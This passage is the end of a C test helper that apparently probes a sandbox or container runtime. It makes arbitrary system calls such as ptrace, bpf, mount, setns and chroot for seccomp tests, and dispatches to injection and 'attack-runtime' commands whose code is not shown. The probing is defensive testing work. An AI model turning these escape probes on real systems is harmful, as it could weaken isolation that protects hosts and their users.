		return 0;
	}
	printf("injected\n");
	return 0;
#else
	(void)path, (void)out, (void)secs;
	printf("unsupported\n");
	return 1;
#endif
}

/* report-to OUT: the report, into OUT. */
static int cmd_report_to(const char *out)
{
	if (freopen(out, "w", stdout) == NULL)
		return 1;
	report();
	fflush(stdout);
	return 0;
}

/* syscall NAME [ARG...]: make one system call with integer arguments
 * (decimal or 0x hex) and print `ok RET` or `errno N` (seccomp tests). */
static int cmd_syscall(int argc, char **argv)
{
	static const struct {
		const char *name;
		long nr;
	} calls[] = {
	    {"getpid", SYS_getpid}, {"getppid", SYS_getppid},	      {"unshare", SYS_unshare},
	    {"mount", SYS_mount},   {"keyctl", SYS_keyctl},	      {"bpf", SYS_bpf},
	    {"ptrace", SYS_ptrace}, {"personality", SYS_personality}, {"setns", SYS_setns},
	    {"umask", SYS_umask},   {"getuid", SYS_getuid},	      {"kill", SYS_kill},
	    {"clone3", SYS_clone3}, {"chroot", SYS_chroot},
	};
	long a[6] = {0};
	long nr = -1, r;

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
		if (strcmp(argv[0], calls[i].name) == 0)
			nr = calls[i].nr;
	if (nr < 0)
		nr = strtol(argv[0], NULL, 0);
	for (int i = 1; i < argc && i <= 6; i++)
		a[i - 1] = (long)strtoull(argv[i], NULL, 0);
	r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	if (r < 0)
		printf("errno %d\n", errno);
	else
		printf("ok %ld\n", r);
	return 0;
}

/* sd_notify(3) by hand: one datagram to the socket NOTIFY_SOCKET names. */
static int cmd_notify(const char *msg)
{
	const char *path = getenv("NOTIFY_SOCKET");
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	char buf[1024];
	size_t n = 0;
	int fd;

	for (const char *p = msg; *p && n < sizeof(buf) - 1; p++) {
		if (p[0] == '\\' && p[1] == 'n') {
			buf[n++] = '\n';
			p++;
		} else {
			buf[n++] = *p;
		}
	}
	if (path == NULL || strlen(path) >= sizeof(sa.sun_path)) {
		printf("no NOTIFY_SOCKET\n");
		return 1;
	}
	strcpy(sa.sun_path, path);
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || sendto(fd, buf, n, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	close(fd);
	printf("sent\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return report();
	const char *cmd = argv[1];
	const char *arg = argc > 2 ? argv[2] : NULL;
	int ret;

	if (strcmp(cmd, "signals") == 0)
		ret = cmd_signals();
	else if (strcmp(cmd, "isatty") == 0)
		ret = cmd_isatty();
	else if (strcmp(cmd, "zombies") == 0)
		ret = cmd_zombies(arg);
	else if (arg == NULL)
		return usage();
	else if (strcmp(cmd, "read") == 0)
		ret = cmd_read(arg);
	else if (strcmp(cmd, "write") == 0)
		ret = cmd_write(arg);
	else if (strcmp(cmd, "ls") == 0)
		ret = cmd_ls(arg);
	else if (strcmp(cmd, "nestproc") == 0)
		ret = cmd_nestproc(arg);
	else if (strcmp(cmd, "hunt") == 0 && argc > 3)
		ret = cmd_hunt(arg, argv[3]);
	else if (strcmp(cmd, "dread") == 0 && argc > 3)
		ret = cmd_dread(arg, argv[3]);
	else if (strcmp(cmd, "sleep") == 0)
		ret = cmd_sleep(arg);
	else if (strcmp(cmd, "exit") == 0)
		return atoi(arg);
	else if (strcmp(cmd, "syscall") == 0)
		ret = cmd_syscall(argc - 2, argv + 2);
	else if (strcmp(cmd, "try") == 0)
		ret = cmd_try(arg);
	else if (strcmp(cmd, "seize-exec") == 0 && argc > 4)
		ret = cmd_seize_exec(arg, argv[3], argv[4]);
	else if (strcmp(cmd, "report-to") == 0)
		ret = cmd_report_to(arg);
	else if (strcmp(cmd, "notify") == 0)
		ret = cmd_notify(arg);
	else if (strcmp(cmd, "attack-runtime") == 0)
		ret = cmd_attack_runtime(arg, argc > 3 && strcmp(argv[3], "write") == 0);
	else
		return usage();
	fflush(stdout);
	return ret;
}
